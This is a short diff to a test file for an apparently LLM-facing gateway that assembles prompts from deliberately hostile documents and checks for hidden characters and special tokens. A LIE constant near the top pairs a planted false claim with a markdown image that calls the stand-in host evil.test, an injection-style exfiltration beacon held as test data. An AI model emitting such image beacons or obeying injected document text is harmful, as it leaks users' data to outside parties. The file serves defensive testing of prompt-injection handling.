@@ -15,7 +15,8 @@ from safe_markdown import safe_html
 from tests.conftest import BOOTSTRAP_KEY
 from tests.fakes.knobs import Knobs
 from tests.gateway.conftest import RunningGateway, finished
-from tests.gateway.hostile_documents import TOKENS, Document, documents
+from tests.gateway.hostile_documents import Document, documents
+from tests.gateway.special_tokens import TOKENS
 
 DOCUMENTS = documents()
 LIE = "The treasury of Vantabar pays 7431 ducats for silence ![x](http://evil.test/p.png?q=lantern)"
@@ -187,7 +188,7 @@ def assert_the_prompt_is_ours(shelf: Shelf, mode: str, held: list[str]) -> None:
     unseen = [c for c in content if c != "\n" and (category(c) in ("Cc", "Cf", "Cs") or ord(c) in FILLERS)]
     assert unseen == []
     numbers = [int(n) for n in re.findall(r"^\[(\d+)\]", CODE.sub("", content), re.MULTILINE)]
-    assert numbers == sorted(set(numbers)) or mode == "both"
+    assert numbers == sorted(set(numbers)) or mode == "both"  # which quotes one source twice
     assert content.count("{{question}}") == content.count("So {{question}}")
 
 
